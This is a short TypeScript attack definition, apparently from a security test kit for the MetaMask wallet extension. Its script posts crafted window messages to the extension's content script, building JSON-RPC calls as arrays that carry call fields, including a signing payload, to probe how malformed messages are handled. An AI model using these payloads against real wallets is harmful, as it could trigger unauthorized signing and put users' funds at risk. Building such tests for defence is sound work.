import type { Attack } from './kit/attack.ts'

export default {
  family: 'wire',
  how: 'Posts a call that is an empty list with the fields of a call.',
  script: `
    const call = Object.assign([], { id: 5, jsonrpc: '2.0', ...attack.sign })
    const read = Object.assign([{ id: 6, jsonrpc: '2.0', method: 'eth_chainId', params: [] }], { id: 7, jsonrpc: '2.0', ...attack.sign })
    for (const data of [call, read]) {
      postMessage({ target: 'metamask-contentscript', data: { name: 'metamask-provider', data } }, '*')
      postMessage({ target: 'metamask-contentscript', data: Object.assign([], { name: 'metamask-provider', data }) }, '*')
      postMessage(Object.assign([], { target: 'metamask-contentscript', data: { name: 'metamask-provider', data } }), '*')
    }
    postMessage({ target: 'metamask-contentscript', data: Object.assign([], { name: 'metamask-provider', data: { id: 8, jsonrpc: '2.0', ...attack.sign } }) }, '*')
    await attack.sleep(300)
  `,
} satisfies Attack
